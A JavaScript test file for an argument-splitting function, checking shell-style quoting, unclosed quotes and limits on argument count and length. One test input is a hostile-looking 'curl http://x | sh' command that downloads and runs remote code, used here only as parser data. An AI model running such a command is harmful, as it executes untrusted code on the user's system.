import assert from 'node:assert/strict';
import { test } from 'node:test';
import { splitArgv } from './argv.js';

test('splits on blanks and honours shell quoting without expanding anything', () => {
  assert.deepEqual(splitArgv(`-o pool:3333 --pass 'a b' "c \\"d\\"" e\\ f $HOME`).args, [
    '-o',
    'pool:3333',
    '--pass',
    'a b',
    'c "d"',
    'e f',
    '$HOME',
  ]);
  assert.deepEqual(splitArgv('  ').args, []);
  assert.deepEqual(splitArgv(`''`).args, ['']);
});

test('an unclosed quote keeps what was read and says so', () => {
  const split = splitArgv(`sh -c "curl http://x | sh`);
  assert.deepEqual(split.args, ['sh', '-c', 'curl http://x | sh']);
  assert.equal(split.unclosed, true);
});

test('bounded: argument count, argument length and input length', () => {
  const many = splitArgv(Array.from({ length: 500 }, (_, i) => `a${i}`).join(' '), { maxArgs: 128 });
  assert.equal(many.args.length, 128);
  assert.equal(many.clipped, true);
  const long = splitArgv(`x ${'y'.repeat(10_000)}`, { maxArgChars: 100 });
  assert.match(long.args[1], /^y{100}…\[\+9900\]$/);
  const huge = splitArgv('z '.repeat(100_000), { maxChars: 1000, maxArgs: 10_000 });
  assert.equal(huge.args.length, 500);
  assert.equal(huge.clipped, true);
});
